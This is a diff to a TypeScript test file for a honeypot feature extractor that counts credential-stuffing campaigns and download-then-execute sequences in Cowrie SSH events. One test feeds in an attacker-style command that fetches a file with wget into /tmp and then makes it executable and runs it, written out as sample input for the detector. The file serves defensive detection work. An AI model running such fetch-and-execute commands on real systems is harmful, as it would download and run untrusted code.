@@ -8,11 +8,36 @@ const failed = (seconds: number, src_ip = "203.0.113.7"): WindowedEvent => ({
 });
 
 describe("WindowFeatures", () => {
-  it("names its features per window, shortest window first, then sensor-wide, calendar and is_internal_ip", () => {
+  it("counts the new sources behind one credential pair as a campaign, but not a source it has long known", () => {
+    const windows = new WindowFeatures();
+    const login = (seconds: number, src_ip: string): WindowedEvent => ({
+      src_ip, time_ms: T0 + seconds * 1000, eventid: "cowrie.login.failed", username: "admin", password: "Winter2026!",
+    });
+    for (const seconds of [0, 3000, 6000]) windows.update(failed(seconds, "192.0.2.50"));
+    let campaign = 0;
+    for (let k = 0; k < 25; k++) campaign = windows.update(login(7200 + k * 3, `198.51.100.${k}`)).features.campaign_sources_5m;
+    assert.equal(campaign, 25);
+    assert.equal(windows.update(login(7300, "192.0.2.50")).features.campaign_sources_5m, 25, "known for two hours: not new, not counted");
+    assert.equal(windows.update(failed(7301, "198.51.100.99")).features.campaign_sources_5m, 1, "its own password: its own key");
+  });
+
+  it("counts a fetch then a run in one session as a download executed", () => {
+    const windows = new WindowFeatures();
+    const command = (seconds: number, input: string): WindowedEvent => ({
+      src_ip: "203.0.113.9", session: "s1", time_ms: T0 + seconds * 1000, eventid: "cowrie.command.input", input,
+    });
+    assert.equal(windows.update(command(0, "cd /tmp; wget http://192.0.2.1/x")).features.download_execs_1m, 0);
+    assert.equal(windows.update(command(2, "chmod +x x; ./x")).features.download_execs_1m, 1);
+    assert.equal(windows.update(command(90, "uname -a")).features.download_execs_1m, 0, "out of the minute");
+    assert.equal(windows.update(command(91, "uname -a")).features.download_execs_5m, 1);
+  });
+
+  it("names its features per window, shortest window first, then sensor-wide, the campaign, calendar and is_internal_ip", () => {
     const { names } = new WindowFeatures({ windowSeconds: [3600, 90, 60] });
-    assert.equal(names.length, 18 * 3 + 8);
+    assert.equal(names.length, 19 * 3 + 9);
     assert.deepEqual(names.slice(0, 6), ["events_1m", "events_90s", "events_1h", "failed_logins_1m", "failed_logins_90s", "failed_logins_1h"]);
-    assert.deepEqual(names.slice(51, 54), ["session_duration_1m", "session_duration_90s", "session_duration_1h"]);
+    assert.deepEqual(names.slice(54, 57), ["session_duration_1m", "session_duration_90s", "session_duration_1h"]);
+    assert.deepEqual(names.slice(57, 61), ["events_per_min", "new_ips_per_min", "distinct_ips_per_min", "campaign_sources_5m"]);
     assert.equal(names[names.length - 1], "is_internal_ip");
   });
 
